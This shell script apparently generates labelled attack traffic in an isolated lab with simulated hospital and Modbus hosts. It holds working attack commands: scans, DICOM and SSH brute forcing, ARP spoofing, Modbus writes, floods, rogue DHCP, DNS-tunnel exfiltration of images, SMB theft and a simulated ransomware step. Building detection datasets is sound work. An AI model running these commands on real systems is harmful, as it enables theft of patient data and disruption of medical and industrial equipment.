# What make.sh records, which reads this file. a, c: who attacks; b and others: who is attacked.

gas_panel() { serve "$1" tcp 502 "$python" "$peers/modbus_peer.py" serve pymodbus --port 502 --log "$work/modbus.$1"; }

scenario_nmap_syn() {
  begin a=30 b=40 c=41 d=42 e=43
  serve b tcp 104 storescp --ignore 104
  gas_panel c
  serve d tcp 2575 nc -lk 2575
  record
  run a nmap -sS -n --max-rate 1500 -p 1-110,135,139,443,445,502,1433,2575,3306,3389,5432,5900,6661,8080,11112 \
    10.77.0.40-43
  finish
}
# One probe after the other, 0.4 s apart.
scenario_nmap_quiet() {
  begin a=30 b=40 c=41 d=42
  record
  run a nmap -sS -T2 -n -p 22,23,80,104,443,445,502,2575,3389,5900,8080,11112 10.77.0.40-42
  finish
}
# All units are tried, one connection after the other, until the time is up.
scenario_nmap_modbus_discover() {
  begin a=30 b=40
  serve b tcp 502 "$python" "$here/slow_panel.py" serve pymodbus --port 502 --log "$work/modbus"
  record
  attempt a timeout 4 nmap -sT -n -p 502 --script modbus-discover --script-args modbus-discover.aggressive=true 10.77.0.40
  finish
}

# An archive that knows its stations by address: any other gets a rejection.
archive() { # HOST [AE TITLE=ADDRESS:PORT...]
  local station
  mkdir -p "$work/archive"
  {
    printf '%s\n' 'NetworkTCPPort = 11112' 'MaxPDUSize = 16384' 'MaxAssociations = 16' 'HostTable BEGIN'
    for station in "${@:2}"; do
      printf '%s = (%s, %s, %s)\n' "${station%%=*}" "${station%%=*}" "$(sed 's/.*=\(.*\):.*/\1/' <<<"$station")" "${station##*:}"
    done
    printf '%s\n' 'HostTable END' 'VendorTable BEGIN' 'VendorTable END' 'AETable BEGIN' \
      "ARCHIVE $work/archive RW (100, 1024mb) ANY" 'AETable END'
  } >"$work/archive.cfg"
  "$python" "$peers/dicom_data.py" "$work/objects"
  serve "$1" tcp 11112 dcmqrscp -c "$work/archive.cfg"
}

scenario_nmap_dicom() {
  begin a=30 b=40
  archive b
  printf '%s\n' ANY ANY-SCP PACS ARCHIV DCM4CHEE ORTHANC CONQUESTSRV1 SERVER STORESCP DICOM MEDPACS RIS WORKLIST IMAGE \
    PACS1 PACS2 SYNAPSE IMPAX KODAK ECHO VEPRO AGFA VITREA OSIRIX HOROS CENTRICITY STORE QRSCP CTSCANNER ARCHIVE >"$work/titles"
  record
  run a nmap -sT -n -p 11112 --script dicom-ping,dicom-brute --script-args "passdb=$work/titles,brute.threads=2" 10.77.0.40
  finish
}
scenario_movescu() {
  begin a=30 b=40
  archive b THIEF=10.77.0.30:11113
  run a storescu -aec ARCHIVE 10.77.0.40 11112 "$work"/objects/image{1,2,3}.dcm
  mkdir "$work/loot"
  record
  (cd "$work/loot" && run a movescu -S -aet THIEF -aem THIEF -aec ARCHIVE +P 11113 -od "$work/loot" -k QueryRetrieveLevel=STUDY \
    -k StudyInstanceUID=1.2.826.0.1.3680043.10.77.19010203.1 10.77.0.40 11112)
  finish
}
scenario_storescu_forged() {
  begin a=30 b=40
  archive b
  record
  run a storescu -aet CT1 -aec ARCHIVE 10.77.0.40 11112 "$work"/objects/image{1,2,3}.dcm
  run a storescu -aet CT1 -aec ARCHIVE 10.77.0.40 11112 "$work"/objects/image{1,2,3}.dcm
  finish
}
scenario_arpspoof_modbus() {
  begin a=40 b=41 c=30
  gas_panel b
  in_ns c sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
  in_ns a sysctl -qw net.ipv4.conf.all.accept_redirects=0
  record
  run a mbpoll -1 -a 1 -t 4 -r 1 -c 8 10.77.0.41
  background c arpspoof -i eth0 -t 10.77.0.40 10.77.0.41
  background c arpspoof -i eth0 -t 10.77.0.41 10.77.0.40
  sleep 3
  local turn
  for turn in 1 2 3 4 5; do
    run a mbpoll -1 -a 1 -t 4 -r 1 -c 8 10.77.0.41
    sleep 3
  done
  finish
}
scenario_mbpoll_write() {
  begin a=30 b=40
  gas_panel b
  record
  run a mbpoll -1 -a 1 -t 4 -r 1 -c 40 10.77.0.40
  local value
  for value in 0 9999 0 9999; do run a mbpoll -1 -a 1 -t 4 -r 5 10.77.0.40 "$value" "$value" "$value"; done
  run a mbpoll -1 -a 1 -t 4 -r 12 10.77.0.40 65535
  run a mbpoll -1 -a 1 -t 0 -r 3 10.77.0.40 0 0 0 0
  finish
}
scenario_netcat_hl7_resend() {
  begin a=30 b=40
  serve b tcp 6661 "$python" "$here/hl7_receiver.py" 6661
  "$python" "$here/hl7_receiver.py" --message >"$work/message"
  record
  local turn
  for turn in 1 2 3 4; do
    attempt a timeout 3 nc -q 1 10.77.0.40 6661 <"$work/message"
    sleep 1
  done
  finish tcp.port==6661,hl7
}

# --- what is not medical ------------------------------------------------------------------------

scenario_hydra_ssh() {
  begin a=30 b=40
  mkdir -p /run/sshd
  ssh-keygen -q -t ed25519 -N '' -f "$work/key"
  printf '%s\n' CANARYPASSWORD admin 123456 password service philips draeger siemens hospital ward1 medical changeme root toor \
    letmein welcome qwerty secret default pump >"$work/passwords"
  serve b tcp 22 /usr/sbin/sshd -D -e -f /dev/null -h "$work/key" -o PidFile=none -o UsePAM=no -o MaxStartups=20
  record
  attempt a hydra -l service -P "$work/passwords" -t 4 -I ssh://10.77.0.40
  finish
}
scenario_hping3_syn_flood() {
  begin a=30 b=40 gateway=1 # which drops the answers to invented sources
  ip -n "$PREFIX-b" route add default via 10.77.0.1
  serve b tcp 11112 storescp --ignore 11112
  record
  attempt a hping3 -S --rand-source -p 11112 -i u1500 -c 1500 10.77.0.40
  finish
}
scenario_slowhttptest() {
  begin a=30 b=40
  printf 'error_log %s;\npid %s;\nevents {}\nhttp { access_log off; server { listen 80; return 200 "WARD CANARY\\n"; } }\n' \
    "$work/error" "$work/pid" >"$work/nginx.conf"
  serve b tcp 80 nginx -g 'daemon off;' -c "$work/nginx.conf"
  record
  attempt a slowhttptest -H -c 100 -r 20 -i 4 -l 16 -t GET -u http://10.77.0.40/ -x 24 -p 3
  finish
}
scenario_dhcpstarv() {
  begin a=30 b=40
  serve b udp 67 dnsmasq -d -C /dev/null --port=0 --interface=eth0 --bind-dynamic --dhcp-range=10.77.0.200,10.77.0.239,1h \
    --dhcp-leasefile="$work/leases" --no-ping --dhcp-authoritative
  record
  background a dhcpstarv -i eth0
  sleep 12
  kill "$last"
  finish
}
# a answers before the gateway does, and names itself as router and name server.
scenario_dnsmasq_rogue_dhcp() {
  begin a=30 b=40 c=41 d=42 gateway=1
  local host last
  dhcp_server gateway 10.77.0.1 --dhcp-reply-delay=1
  dhcp_server a 10.77.0.30
  printf '%s\n' '#!/bin/sh' '[ "$1" != bound ] || ip addr add "$ip/24" broadcast 10.77.0.255 dev eth0' >"$work/bound"
  chmod +x "$work/bound"
  for host in b c d; do ip -n "$PREFIX-$host" addr flush dev eth0; done
  record
  for host in b c d; do
    run "$host" udhcpc -i eth0 -n -q -f -t 3 -T 2 -A 2 -s "$work/bound" -x hostname:ward
    run "$host" "$python" "$here/ask_name.py" 10.77.0.30 ehr.hospital.example proxy.hospital.example files.hospital.example
    sleep 2
  done
  finish
}
dhcp_server() { # HOST ADDRESS [OPTION]
  serve "$1" udp 67 dnsmasq -d -C /dev/null --no-hosts --no-resolv --interface=eth0 --bind-dynamic \
    --dhcp-range=10.77.0.40,10.77.0.42,1h --dhcp-host=02:57:54:00:00:28,10.77.0.40 --dhcp-host=02:57:54:00:00:29,10.77.0.41 \
    --dhcp-host=02:57:54:00:00:2a,10.77.0.42 --dhcp-option="3,$2" --dhcp-option="6,$2" --dhcp-leasefile="$work/leases.$1" --no-ping \
    --dhcp-authoritative --address=/hospital.example/203.0.113.99 "${@:3}"
}
scenario_onesixtyone() {
  begin a=30 b=40 c=41 d=42
  printf '%s\n' 'rocommunity CANARYcommunity' 'agentaddress udp:161' 'sysdescr Network management card' 'sysname ups' >"$work/snmpd.conf"
  local host
  for host in b c d; do
    serve "$host" udp 161 snmpd -f -Lo -C -c "$work/snmpd.conf" -I -smux -p "$work/pid.$host"
  done
  printf '%s\n' public private snmp admin manager cisco community monitor apc root ups write read security system \
    CANARYcommunity default network service test >"$work/communities"
  printf '%s\n' 10.77.0.40 10.77.0.41 10.77.0.42 >"$work/hosts"
  record
  run a onesixtyone -c "$work/communities" -i "$work/hosts" -w 40
  finish
}
# a asks its own name server b, which asks c: the tunnel's end outside.
scenario_iodine() {
  begin a=30 b=40 c=50
  background c iodined -f -P CANARYPASSWORD -c 192.168.99.1/24 t.canary.example
  sleep 1
  serve b udp 53 dnsmasq -d -C /dev/null --no-resolv --no-hosts --cache-size=0 --server=/canary.example/10.77.0.50
  record
  background a iodine -f -r -T TXT -M 200 -m 500 -I 2 -P CANARYPASSWORD 10.77.0.40 t.canary.example
  local try
  for try in $(seq 200); do ip -n "$PREFIX-a" addr show dev dns0 2>/dev/null | grep -q 192.168.99 && break; sleep 0.1; done
  "$python" "$peers/dicom_data.py" "$work/objects"
  serve c tcp 8000 nc -lN 192.168.99.1 8000
  attempt a timeout 40 nc -N 192.168.99.1 8000 < <(cat "$work"/objects/image*.dcm)
  finish
}

file_server() { # HOST
  mkdir -p "$work/samba/private" "$work/share"
  local number
  for number in $(seq 20); do
    { printf 'CANARY^ANNA %s discharge letter\n' "$number"; head -c 4500 /dev/zero | tr '\0' 'x'; } >"$work/share/letter-$number.txt"
  done
  chmod -R 777 "$work/share"
  cat >"$work/smb.conf" <<CONF
[global]
  netbios name = FILES
  workgroup = HOSPITAL
  server role = standalone server
  map to guest = Bad User
  guest account = nobody
  private dir = $work/samba/private
  lock directory = $work/samba
  state directory = $work/samba
  cache directory = $work/samba
  pid directory = $work/samba
  ncalrpc dir = $work/samba/ncalrpc
  disable netbios = yes
  smb ports = 445
  load printers = no
  interfaces = eth0 lo
[letters]
  path = $work/share
  guest ok = yes
  read only = no
  force user = root
CONF
  sed 's/= FILES/= PC/' "$work/smb.conf" >"$work/client.conf"
  serve "$1" tcp 445 smbd --foreground --no-process-group -s "$work/smb.conf" -l "$work/samba"
}
take() { run a smbclient -s "$work/client.conf" -N //10.77.0.40/letters -c "$1"; }

scenario_smbclient_take() {
  begin a=30 b=40
  file_server b
  mkdir "$work/loot"
  record
  take "lcd $work/loot; prompt off; mget *"
  finish
}
scenario_smbclient_encrypt() {
  begin a=30 b=40
  file_server b
  mkdir "$work/loot"
  local number commands="lcd $work/loot"
  for number in $(seq 14); do
    commands+="; get letter-$number.txt; put locked letter-$number.txt.locked; del letter-$number.txt"
  done
  head -c 4500 /dev/urandom >"$work/loot/locked"
  printf 'CANARY: your files are locked\n' >"$work/loot/note"
  record
  take "$commands; put note READ_ME.txt"
  finish
}
# The whole file crosses the network here, with its preamble (PS3.10 section 7.1); C-STORE would leave it out.
scenario_smbclient_mz_dicom() {
  begin a=30 b=40
  file_server b
  "$python" "$peers/dicom_data.py" "$work/objects"
  record
  take "lcd $work/objects; put infected.dcm image4.dcm"
  finish
}
